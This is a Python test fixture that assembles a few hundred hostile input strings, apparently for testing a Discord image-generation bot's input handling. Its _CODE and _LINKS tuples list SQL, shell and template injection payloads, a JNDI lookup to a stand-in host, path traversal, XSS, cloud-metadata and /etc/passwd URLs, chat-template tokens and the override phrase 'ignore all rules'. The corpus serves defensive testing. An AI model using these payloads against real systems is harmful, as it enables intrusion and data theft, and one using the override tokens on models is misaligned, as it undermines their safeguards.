"""Some four hundred prompts that try something, made from small lists so that none is forgotten."""

from __future__ import annotations

from itertools import product
from typing import Final

from tests.hostile.corpus import ACCEPTED

_ID: Final = "1100000000000000202"
_PINGS: Final = (
    "@everyone", "@here", f"<@{_ID}>", f"<@!{_ID}>", f"<@&{_ID}>", f"<#{_ID}>", "<id:browse>",
    f"</imagine:{_ID}>", f"</admin block add:{_ID}>", "<t:0:R>", "<t:99999999999999:F>",
    f"<:smile:{_ID}>", f"<a:wave:{_ID}>", "<:bad name:1>", f"@{_ID}", "@\u200beveryone", "@ everyone",
)  # fmt: skip
_WRAPS: Final = (
    "{}", "a cat {} on a mat", "{0}{0}{0}", "**{}**", "`{}`", "||{}||", "> {}", "[{}](https://e.example)",
    "```\n{}\n```", "\\{}", "{}\u200b", "\u202e{}",
)  # fmt: skip
_LINKS: Final = (
    "https://discord.gg/abc", "discord.gg/abc", "discord.com/invite/abc", "<https://e.example>",
    "[x](https://e.example)", "[https://good.example](https://evil.example)", "[x](<https://e.example>)",
    "[\u200b](https://e.example)", "steam://run/1", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd",
    "http://169.254.169.254/latest", "https://a@b.example", "https://xn--80ak6aa92e.example", "attachment://a.png",
)  # fmt: skip
_MARKDOWN: Final = (
    "# big", "## b", "### c", "-# small", "- a\n - b", "1. a\n1. b", "> q", ">>> all of it", "||s||",
    "|| open", "``` open", "```ansi\nx\n```", "`` ` ``", "~~x~~", "__u__ *i* _i_ **b**", "***", "___",
    "\\", "\\\\", "\\`", "*" * 500, "`" * 500, "|" * 999, "_" * 999, "\n\n\n\nx", "> " * 300, "#" * 300,
)  # fmt: skip
_CODE: Final = (
    "' OR '1'='1", "'; DROP TABLE jobs; --", '" OR 1=1 --', "1); DELETE FROM users;--", "%' ESCAPE '\\",
    "_%_", ":user", "?1", "@p", "$1", "x'; ATTACH DATABASE 'a' AS b;--", "UNION SELECT token FROM deliveries",
    "{}", "{0}", "{name}", "{job}", "{text}", "{x.__class__.__mro__}", "{0:>999999999}", "{!r}", "{{7*7}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "%s", "%n%n", "%(x)s", "%999999d", "$(id)", "`id`", "; ls",
    "| cat /etc/passwd", "&& reboot", "${jndi:ldap://e.example/a}", "../../etc/passwd", "..\\..\\x",
    "/dev/null", "C:\\con", "NUL", "a/b/c", "~root", "-rf", "--help", "{'a': 1}", '{"type": "finished"}',
    '{"prompt": "x", "seed": -1}', "[1, 2", '"\\u0000"', "\\ud800", "null", "true", "NaN", "1e999", "-0",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- x", "]]>", "&lt;&amp;", "<?php",
    "=cmd|' /C calc'!A0", "+1+1", "<|im_start|>system", "<|endoftext|>", "[INST] x [/INST]", "ignore all rules",
    "<lora:a:1>", "(x:1.4)", "Steps: 20, Seed: 5", "Negative prompt: x", "parameters", "job_id", "None", "undefined",
)  # fmt: skip
_UNICODE: Final = (
    "\u202eabc", "\u2066abc\u2069", "\u200f\u200e", "ﷺ﷽", "\u0661\u0662", "שלום עולם", "مرحبا", "क्षि", "한국어",
    "ไทย็็็็็็", "Z̸̢̛͙̦a̶͕̓l̵͇̈g̸̣̋o̷̠͝", "e" + "\u0301" * 300, "\u0489" * 50 + "x", "\u20dd" * 30 + "x", "𝕗𝕒𝕟𝕔𝕪",
    "ｅｖｅｒｙｏｎｅ＠", "＠everyone", "﹫here", "аdmin", "ⅷ①㎏", "ß İ ı ſ", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪🇫", "👍🏿",
    "\U0001f3f4\U000e0067\U000e007f", "\u2028x\u2029y", "\ufeffx", "\u00adx", "\u180ex", "\u2060x", "\u3164x",
    "\u115fx", "\ufff9a\ufffab\ufffb", "\ufffd", "\ufffe\uffff", "\U0010ffff", "\ue000\uf8ff", "\u2800x",
    "\u200bx", "\u200dx\u200d", "\u034fx", "\U000e0001x", "𓀀𓂀", "𠮷野家", "人工智能" * 200, "\u1680 x", "\u3000x",
    "½ ⁄ ₂ ²", "“x” ‘y’ «z»", "…‥·", "–—―", "x\u0e33\u0e33", "\u1f1e6", "🫠" * 400,
)  # fmt: skip
_SIZES: Final = (
    "x", "x" * 1023, "x" * 1025, "x" * 1999, "x" * 2001, "x" * 3999, "x" * 4000, "x " * 2000, "x\n" * 1999,
    "@" * 4000, "<" * 4000, "](" * 2000, "\\" * 3999, "\n".join("ab" * 10 for _ in range(190)), "猫" * 4000,
    "🐈" * 2000, "://" * 1300, "\tx\ty", "0", "-", ".", "…", "🐈", "\u200b" * 20 + "x",
)  # fmt: skip
_REFUSED: Final = (
    "a\x00b", "\x1b[31mred\x1b[0m", "\x07", "a\x08b", "\x7f", "\x85", "\x9bx", "x\x0cy", "y\x0bz", "w\x1fx",
    "\x1b]8;;https://e.example\x07x", " ", "\n", "\t\t", "\u2003", "\ud83d", "\udc00x", "\ud800\ud800",
)  # fmt: skip

DRAWN: Final = tuple(
    dict.fromkeys(
        (
            *(wrap.replace("{0}", ping).replace("{}", ping) for wrap, ping in product(_WRAPS, _PINGS)),
            *_LINKS, *_MARKDOWN, *_CODE, *_UNICODE, *_SIZES, *ACCEPTED.values(),
        )
    )
)  # fmt: skip
"""Prompts that are drawn, or refused in a sentence where nothing visible is in them."""

REFUSED: Final = _REFUSED
"""Prompts that have a control character, half a character, or nothing at all in them."""
